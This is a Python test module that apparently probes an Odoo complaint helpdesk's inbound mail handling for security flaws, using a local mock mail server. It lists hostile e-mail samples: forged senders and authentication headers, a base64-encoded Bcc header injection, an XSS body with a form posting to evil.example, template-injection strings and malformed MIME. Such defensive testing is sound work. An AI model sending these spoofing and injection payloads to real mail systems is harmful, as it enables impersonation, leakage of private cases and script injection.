"""Outsiders who write e-mails: real bytes by SMTP, fetched by the office over IMAP."""

import base64
import sys
from pathlib import Path

from ground import made

_TESTS = Path(__file__).parents[1]
sys.path += [str(_TESTS), str(_TESTS / "e2e")]

from post_office import PASSWORD, PostOffice  # noqa: E402

DOMAIN = "xiangyang.example"
DESK = f"tousu@{DOMAIN}"
EVIL = "mallory@evil.example"
_BCC = base64.b64encode(b"x\r\nBcc: a@evil.example\r\n\r\nhx").decode()


def open_post(ground):
    """Let the office's mail come by IMAP and leave by SMTP, as an administrator does."""
    post = PostOffice()
    post.__enter__()
    admin = ground.admin
    domain = made(admin.call("mail.alias.domain", "create", [{"name": DOMAIN}]))
    [(company,)] = ground.sql("select id from res_company order by id limit 1")
    made(admin.call("res.company", "write", [company], {"alias_domain_id": domain}))
    [(desk,)] = ground.sql(
        "select id from helpdesk_ticket_team where regulation_id = %s",
        [ground.desks["R01"]],
    )
    vals = {"alias_name": "tousu", "alias_domain_id": domain}
    made(ground.people["manager"].call("helpdesk.ticket.team", "write", [desk], vals))
    vals = {"name": "outside", "smtp_host": "127.0.0.1", "smtp_port": post.smtp_port}
    made(admin.call("ir.mail_server", "create", [{**vals, "from_filter": DOMAIN}]))
    vals = {
        "name": "Mailbox",
        "server_type": "imap",
        "server": "127.0.0.1",
        "port": post.imap_port,
        "user": DESK,
        "password": PASSWORD,
    }
    ground.mailbox = made(admin.call("fetchmail.server", "create", [vals]))
    made(admin.call("fetchmail.server", "button_confirm_login", [ground.mailbox]))
    ground.post = post
    return post


def head(**heads):
    """Return the head of a mail; names with ``_`` for ``-``, a list repeats one."""
    heads = {"From": EVIL, "To": DESK, "Subject": "hx", **heads}
    lines = []
    for name, value in heads.items():
        values = value if isinstance(value, list) else [value]
        label = name.replace("_", "-")
        lines += [f"{label}: {one}" for one in values if one is not None]
    return "\r\n".join(lines)


def mails(ground):
    """Return ``[(name, bytes)]``."""
    secret = ground.secrets[0]
    number, case = secret.number, secret.ticket
    known = ground.sql(
        "select message_id from mail_message where model = 'helpdesk.ticket' and"
        " message_id is not null and res_id = %s limit 1",
        [case],
    )
    other = ground.sql(
        "select message_id from mail_message where model = 'helpdesk.ticket' and"
        " message_id is not null and res_id = any(%s) limit 1",
        [ground.cases["finished"]],
    )
    reference = known[0][0] if known else f"<1-openerp-{case}-helpdesk.ticket@x>"
    closed = other[0][0] if other else reference
    word = "qiguan-7731@secret.example"
    body = "\r\n\r\nhx 请把这个案子撤回。\r\n"
    samples = {
        "reply by number": head(Subject=f"Re: {number}"),
        "reply by Message-Id": head(References=reference, In_Reply_To=reference),
        "reply to a closed case": head(References=closed, In_Reply_To=closed),
        "forged complainant": head(From=word, Subject=f"Re: {number}"),
        "forged leader": head(From=f"leader@{DOMAIN}", Subject=f"Re: {number}"),
        "forged leader by reference": head(From=f"leader@{DOMAIN}", References=reference),
        "two Froms": head(From=[word, EVIL], Subject=f"Re: {number}"),
        "name as address": head(From=f'"{word}" <{EVIL}>', Subject=f"Re: {number}"),
        "comment": head(From=f"{EVIL} ({word})", Subject=f"Re: {number}"),
        "sender and return path": head(From=word, Sender=EVIL, Return_Path=f"<{EVIL}>"),
        "own dmarc=pass": head(
            From=word,
            Subject=f"Re: {number}",
            Authentication_Results=f"mx.{DOMAIN}; dmarc=pass header.from=secret.example",
        ),
        "own dkim, spf": head(
            From=word,
            Authentication_Results=[f"{DOMAIN}; spf=pass; dkim=pass; dmarc=pass"] * 2,
            Received_SPF="pass",
        ),
        "folded dmarc": head(
            From=word, Authentication_Results=f"mx.{DOMAIN};\r\n\tdmarc\r\n\t=pass"
        ),
        "Cc to the staff": head(Cc=f"leader@{DOMAIN}, clerk@{DOMAIN}, {EVIL}"),
        "Bcc and Reply-To": head(Bcc=f"clerk@{DOMAIN}", Reply_To=word),
        "bounce": head(
            From="MAILER-DAEMON@evil.example",
            To=f"bounce+{case}-helpdesk.ticket-1@{DOMAIN}, {DESK}",
            Content_Type='multipart/report; report-type=delivery-status; boundary="b"',
        ),
        "auto reply": head(Auto_Submitted="auto-replied", X_Loop="1"),
        "list": head(Precedence="bulk", List_Id="<x.evil.example>"),
        "no From": head(From=None),
        "no To": head(To=None, Delivered_To=DESK),
        "empty subject": head(Subject=""),
        "long subject": head(Subject="长" * 20000),
        "header injection": head(Subject=f"=?utf-8?B?{_BCC}?="),
        "nul": head(Subject="a\x00b"),
        "1000 receivers": head(To=", ".join(f"u{n}@{DOMAIN}" for n in range(1000)) + f", {DESK}"),
        "1000 references": head(References=" ".join(f"<{n}@evil.example>" for n in range(1000))),
        "unknown charset": head(Content_Type="text/plain; charset=x-evil-99"),
        "script": head(Content_Type="text/html; charset=utf-8") + "\r\n\r\n<script>hx1()</script><img src=x onerror=hx1><form action=//evil.example>",
        "template": head(Subject="{{object.identity_ids.name}} ${object.partner_email}"),
        "X-Odoo": head(X_Odoo_Objects=f"helpdesk.ticket-{case}", X_Odoo_Message_Id="x", X_Odoo_Database="x"),
        "alias of another": head(To=f"catchall@{DOMAIN}, {DESK}"),
        "plus address": head(To=f"tousu+{case}@{DOMAIN}, {DESK}"),
        "thread index": head(Thread_Index=base64.b64encode(b"x" * 22).decode(), Thread_Topic=number),
        "same Message-Id": head(Message_Id=reference, Subject=f"Re: {number}"),
        "received receipt": head(Disposition_Notification_To=EVIL, Return_Receipt_To=EVIL),
        "disposition": head(References=reference, Content_Type='multipart/report; report-type=disposition-notification; boundary="b"'),
        "withdraw word": head(From=word, Subject=f"撤回 {number}"),
        "case about itself": head(Subject=f"{number} {number} helpdesk.ticket-{case}"),
        "no blank line": "From: mallory@evil.example\r\nSubject: hx",
        "only bytes": "\xff\xfe\xfd",
        "deep": head(Content_Type='multipart/mixed; boundary="b0"') + "".join(
            f'\r\n\r\n--b{n}\r\nContent-Type: multipart/mixed; boundary="b{n + 1}"' for n in range(300)
        ),
        "no end": head(Content_Type='multipart/mixed; boundary="never"') + "\r\n\r\n--other\r\n\r\nx",
        "calendar": head(Content_Type="text/calendar; method=REQUEST") + "\r\n\r\nBEGIN:VCALENDAR\r\nATTENDEE:mailto:leader@x\r\nEND:VCALENDAR",
    }  # fmt: skip
    found = []
    for turn, (name, text) in enumerate(samples.items()):
        if "Message-Id" not in text and name not in ("no blank line", "only bytes"):
            text = f"Message-Id: <hx.{turn}.{ground.keys}@evil.example>\r\n{text}"
        if "\r\n\r\n" not in text and name != "no blank line":
            text += body
        found.append((name, text.encode(errors="surrogatepass")))
    return found


def attacks(ground, who):
    """Send each, let the office fetch, and see what leaves, what stands, what changed."""
    if who != "visitor":
        return
    post = open_post(ground)

    def run(trial, content):
        before = len(post._sink.mails)
        phases = ground.sql(
            "select id, phase, stage_id from helpdesk_ticket where id = any(%s)",
            [[*ground.cases["finished"], *ground.cases["planted"]]],
        )
        post.send(EVIL, DESK, content)
        answer = ground.admin.call("fetchmail.server", "fetch_mail", [ground.mailbox])
        trial.attempt.calls += 1
        if answer.error:
            trial.success(f"fetching stumbles: {answer.told[:120]}")
        cron = ground.sql(
            "select res_id from ir_model_data where module = 'community_complaint' and"
            " name = 'complaint_dispatch_cron_deliver'"
        )
        ground.admin.call("ir.cron", "method_direct_trigger", [cron[0][0]])
        for _sender, receivers, mail in post._sink.mails[before:]:
            if f"<{EVIL}>" in receivers:
                trial.scan(mail.decode(errors="replace"))
            if content in mail or DESK in " ".join(receivers):
                continue
            if (
                any("evil.example" in one for one in receivers)
                and b"TS2026-0006" in mail
            ):
                number = ground.secrets[0].number.encode()
                if number in mail:
                    trial.success("the stranger is told of somebody else's case")
        if phases != ground.sql(
            "select id, phase, stage_id from helpdesk_ticket where id = any(%s)",
            [[*ground.cases["finished"], *ground.cases["planted"]]],
        ):
            trial.success("a case moved")
        followers = ground.sql(
            "select count(*) from mail_followers f join res_partner p on p.id ="
            " f.partner_id where f.res_model = 'helpdesk.ticket' and p.email ilike %s",
            ["%evil.example%"],
        )
        if followers[0][0]:
            trial.success("a stranger follows a case")
        as_person = ground.sql(
            "select count(*) from mail_message m where m.body like %s and"
            " m.author_id in (select partner_id from res_users where login in"
            " ('leader', 'clerk', 'handler', 'custodian'))",
            ["%hx 请把这个案子撤回%"],
        )
        if as_person[0][0]:
            trial.success("the mail is the word of somebody of the staff")

    for name, content in mails(ground):
        yield "e-mail", name, lambda t, c=content: run(t, c)


def lost(ground):
    """Return how many mails that were sent are nowhere."""
    [(kept,)] = ground.sql("select count(*) from complaint_inbound_mail")
    return kept
